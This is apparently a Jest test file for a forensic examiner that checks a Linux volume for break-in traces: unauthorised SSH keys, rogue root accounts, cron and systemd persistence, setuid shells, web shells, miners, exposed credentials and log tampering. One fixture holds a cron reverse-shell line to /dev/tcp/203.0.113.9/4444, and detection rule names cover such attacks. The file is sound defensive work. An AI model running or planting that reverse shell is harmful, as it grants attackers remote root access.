import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { EXAMINED } from '../../../services/cli/local/local-examiner';
import { inOrder } from '../../../shared/domain/trace';
import type { Collected } from '../../../shared/playbooks/instance-login/collected';
import { examine } from '../../../shared/playbooks/instance-login/examine';
import { publicKeysIn, type Sha256 } from '../../../shared/playbooks/instance-login/fingerprint';
import { readListing } from '../../../shared/playbooks/instance-login/read-listing';

const sha256: Sha256 = (data) => createHash('sha256').update(data).digest('hex');

/** What the shipped script said of a volume, written there by its own tests. */
function sample(name: string): Map<string, Uint8Array> {
  const folder = join(EXAMINED, name);
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((one) =>
    /\.(txt|json)$/.test(one),
  );
  return new Map(files.map((file) => [`examination/${file}`, readFileSync(join(folder, file))]));
}

type Index = {
  startedAt: string;
  since: string;
  sha256After: string;
  results: { tool: string; outcome: string; lookedFor: string }[];
};
const INDEX = 'examination/index.json';
const indexOf = (name: string): Index =>
  JSON.parse(Buffer.from(sample(name).get(INDEX) ?? '').toString());

const facts = { loginAt: indexOf('broken-into').startedAt, knownKeys: [], sha256 };

const withFile = (files: Collected, path: string, change: (text: string) => string): Collected =>
  new Map([...files, [path, Buffer.from(change(Buffer.from(files.get(path) ?? '').toString()))]]);

const said = (files: Collected) =>
  examine(files, facts).traces.map(({ kind, sentence }) => `${kind}: ${sentence}`);

test('a machine that was broken into shows what was left there, the worst first', () => {
  const { traces } = examine(sample('broken-into'), facts);
  expect(inOrder(traces)).toEqual(traces);
  const expected = [
    'key: /root/.ssh/authorized_keys lets in the key of a form that is not known.',
    'key: /etc/ssh/sshd_config was changed: it says how the SSH server lets people in.',
    'user: The account sys is root under another name.',
    'user: The account sys has a password in /etc/passwd.',
    'user: The account sys was added.',
    'start: /etc/cron.d/sync was changed: jobs by time.',
    'start: /etc/systemd/system/sync.service was changed: a service or a timer.',
    'setuid: /tmp/.sh runs with the rights of its owner or group (-rwsr-xr-x, owner 0).',
    'setuid: /tmp/.sh is a copy of /usr/bin/dash that runs with the rights of its owner.',
    'preload: /etc/ld.so.preload says which libraries programs load.',
    'pattern: /root/.bash_history is known by the rule download_and_run.',
    'pattern: /etc/cron.d/sync is known by the rule reverse_shell.',
    'pattern: /var/www/html/logo.php is known by the rule web_shell.',
    'pattern: /opt/.cache/config.json is known by the rule miner.',
    'pattern: /home/dev/.aws/credentials is known by the rule aws_key.',
    'program: /tmp/.sh is a program where only temporary files belong.',
    'command: A command in /root/.bash_history runs what it fetches.',
    'change: /tmp/gone.sh was deleted.',
  ];
  expect(said(sample('broken-into'))).toEqual(expect.arrayContaining(expected));
  expect(traces.filter(({ kind }) => kind === 'program').length).toBeGreaterThan(1);
});

test('each trace says where it stands, and when, where that is known', () => {
  const { traces, exposed, isUnchanged } = examine(sample('broken-into'), facts);
  expect(traces.find(({ kind }) => kind === 'start')).toMatchObject({
    evidence: ['/etc/cron.d/sync', '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    at: expect.stringMatching(/^2026-\d\d-\d\dT/),
    words: 'host',
  });
  expect(traces.find(({ kind }) => kind === 'command')?.at).toBe('2026-11-30T00:53:20.000Z');
  expect(exposed).toEqual(['/home/dev/.aws/credentials', '/home/dev/.ssh/id_ed25519']);
  expect(isUnchanged).toBe(true);
});

test('a clean machine shows nothing, and what was looked for and not found is told', () => {
  const { traces, lookedFor } = examine(since(sample('clean')), facts);
  expect(traces).toEqual([]);
  expect(lookedFor.filter(({ unread }) => unread !== undefined)).toEqual([]);
  const tools = indexOf('clean').results.filter(
    ({ tool }) => !['timeline', 'credentials'].includes(tool),
  );
  expect(lookedFor).toEqual(tools.map(({ lookedFor: what }) => ({ what })));
});

const withIndex = (files: Collected, change: (index: Index) => unknown) =>
  withFile(files, INDEX, (text) => JSON.stringify(change(JSON.parse(text))));

test.each([
  ['late', 'it was ended after its time'],
  ['failed', 'it ended with an error'],
  ['not-here', 'the examiner has no such program'],
])('a tool that was %s found nothing, and is not told as having looked', (outcome, why) => {
  const files = withIndex(sample('clean'), (index) => ({
    ...index,
    results: index.results.map((one) => (one.tool === 'patterns' ? { ...one, outcome } : one)),
  }));
  const { lookedFor } = examine(files, facts);
  expect(lookedFor).toContainEqual({
    what: 'web shells, reverse shells, miners, AWS keys, ways to stay',
    unread: why,
  });
});

test('without a day from which on changes count, nothing is called changed, and this is told', () => {
  const { traces, lookedFor } = examine(
    withIndex(sample('clean'), (index) => ({ ...index, since: '' })),
    facts,
  );
  expect(traces).toEqual([]);
  expect(lookedFor).toContainEqual({
    what: 'jobs by time',
    unread: 'which files were changed since is not known',
  });
});

test('a tool that nothing here reads yet is told, if it said something', () => {
  const files = withIndex(sample('clean'), (index) => ({
    ...index,
    results: [{ ...index.results[0], tool: 'constructor', lookedFor: 'news', lines: 3 }],
  }));
  expect(examine(files, facts).lookedFor[0]).toEqual({
    what: 'news',
    unread: 'nothing reads its 3 lines yet',
  });
});

test('a tool that the index leaves out, and an index that is none, are told', () => {
  const files = withIndex(sample('clean'), (index) => ({
    ...index,
    results: index.results.filter(({ tool }) => tool !== 'cron'),
  }));
  expect(examine(files, facts).lookedFor).toContainEqual({
    what: 'cron',
    unread: 'the examiner says nothing of it',
  });
  expect(examine(new Map(), facts).lookedFor).toEqual([
    { what: 'anything on the volume', unread: 'the examiner sent no index' },
  ]);
});

test('a volume that was changed by being examined is told, and one that was not hashed is not called unchanged', () => {
  const [changed, unknown] = ['0'.repeat(64), ''].map((sha256After) =>
    examine(
      withIndex(sample('clean'), (index) => ({ ...index, sha256After })),
      facts,
    ),
  );
  expect([changed?.isUnchanged, unknown?.isUnchanged]).toEqual([false, undefined]);
});

const since = (files: Collected) =>
  withIndex(files, (index) => ({ ...index, since: '2026-01-01' }));
const line = (path: string, mode = '-rw-r--r--') =>
  `9 ${mode} 1 0 0 9 2026-12-01 00:31:10.000000000 +0000 "./${path}"`;
const write = (tool: string, text: string, isChanged = '') =>
  withFile(
    withFile(since(sample('clean')), `examination/1/${tool}.txt`, () => text),
    'examination/1/changed.txt',
    () => isChanged,
  );

const ED = `ssh-ed25519 ${Buffer.from('\0\0\0\x0bssh-ed25519 a key').toString('base64')} a@b`;

test('a key is no trace where its file was not changed, or where it is known', () => {
  const file = line('root/.ssh/authorized_keys');
  const text = `${file}\n| ${ED}\n| # comment\n|\n`;
  expect(said(write('authorized-keys', text))).toEqual([]);
  const knownKeys = publicKeysIn(ED, sha256).map(({ fingerprint }) => fingerprint);
  expect(said(write('authorized-keys', text, `${file}\n`))).toEqual([
    `key: /root/.ssh/authorized_keys lets in the key ${knownKeys[0]}.`,
  ]);
  expect(
    examine(write('authorized-keys', text, `${file}\n`), { ...facts, knownKeys }).traces,
  ).toEqual([]);
});

test.each([
  [
    'a history that is a link',
    'histories',
    `${line('root/.bash_history', 'lrwxrwxrwx')} -> "/dev/null"`,
    'log-tampering: /root/.bash_history is a link to /dev/null: what is typed is not kept.',
  ],
  [
    'an old command',
    'histories',
    `${line('root/.bash_history')}\n| #1600000000\n| history -c`,
    undefined,
  ],
  [
    'a command without a time',
    'histories',
    `${line('root/.bash_history')}\n| history -c`,
    'log-tampering: A command in /root/.bash_history hides what was typed.',
  ],
  ['a setuid program of the system', 'setuid', line('usr/bin/sudo', '-rwsr-xr-x'), undefined],
  [
    'a setuid program at home',
    'setuid',
    line('home/a/x', '-rwsr-xr-x'),
    'setuid: /home/a/x runs with the rights of its owner or group (-rwsr-xr-x, owner 0).',
  ],
  ['a log that was turned over', 'deleted', 'r/r * 9:\tvar/log/secure-20261101', undefined],
  [
    'a log that was deleted',
    'deleted',
    'r/r * 9(realloc):\tvar/log/secure',
    'log-tampering: /var/log/secure was deleted.',
  ],
  [
    'a library',
    'changed',
    line('usr/lib/libc.so.6'),
    'change: 1 programs and libraries were changed since 2026-01-01.',
  ],
  [
    'a new member of a group',
    'accounts',
    `${line('etc/group')}\n| wheel:x:10:evil\n${line('etc/group-')}\n| wheel:x:10:`,
    undefined,
  ],
])('%s', (_, tool, text, sentence) => {
  expect(said(tool === 'changed' ? write('deleted', '', text) : write(tool, text))).toEqual(
    sentence ? [sentence] : [],
  );
});

test('a new member of a group is told where the file was changed', () => {
  const text = `${line('etc/group')}\n| wheel:x:10:evil\n${line('etc/group-')}\n| wheel:x:10:`;
  expect(said(write('accounts', text, line('etc/group')))).toEqual([
    'user: The account evil was put into the group wheel.',
  ]);
});

test('a name on the volume cannot make a line of its own, and lines that are none are counted', () => {
  const { files, lost } = readListing(`${line('a\\n| b\\"c')}\n| d\nnonsense\n`);
  expect(files.map(({ path, lines }) => [path, lines])).toEqual([['/a\\n| b\\"c', ['d']]]);
  expect(lost).toBe(1);
  const { lookedFor } = examine(write('hidden', 'nonsense\n'), facts);
  expect(lookedFor).toContainEqual({
    what: 'names made to be overlooked',
    unread: '1 lines of it are of no known form',
  });
});

test('the times of files around the login are on the timeline', () => {
  const { entries } = examine(sample('broken-into'), facts);
  expect(entries.length).toBeGreaterThan(10);
  const away = ({ at }: { at: string }) => Date.parse(at) - Date.parse(facts.loginAt);
  expect(entries.every((one) => away(one) >= -3_600_000 && away(one) <= 24 * 3_600_000)).toBe(true);
  expect(entries.find(({ text }) => text.includes('/etc/cron.d/sync'))?.text).toMatch(
    /changed.*: \/etc\/cron\.d\/sync \(57 bytes\)/,
  );
});

test('nothing that a volume holds makes it throw', () => {
  const broken = sample('broken-into');
  const path = fc.constantFrom(...broken.keys());
  const text = fc.oneof(
    fc.string(),
    fc.string().map((one) => `${line('x')}\n| ${one}`),
    fc.json(),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(path, text), { maxLength: 4 }), (changes) => {
      const files = new Map<string, Uint8Array>([
        ...broken,
        ...changes.map(([file, body]) => [file, Buffer.from(body)] as const),
      ]);
      examine(files, facts);
    }),
    { numRuns: 200 },
  );
});
